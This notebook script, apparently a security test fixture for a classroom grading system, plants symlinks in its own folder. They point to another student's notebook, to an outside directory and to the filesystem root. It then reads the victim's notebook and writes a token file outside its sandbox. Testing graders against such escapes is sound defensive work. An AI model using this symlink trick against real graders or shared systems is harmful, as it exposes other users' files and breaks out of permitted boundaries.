# %% [markdown]
# Leaves links in its own folder that lead outside, for a grader that copies or cleans up behind it.

# %%
import os

for name, target in (("victim.ipynb", "@CLASSROOM@/source/victim/victim.ipynb"), ("out", "@OUTSIDE@"), ("root", "/")):
    try:
        os.unlink(name)
    except OSError:
        pass
    try:
        os.symlink(target, name)
    except OSError as error:
        print(error)
try:
    print(open("victim.ipynb").read())
    open("out/@TOKEN@", "w").write("here")
except OSError as error:
    print(error)
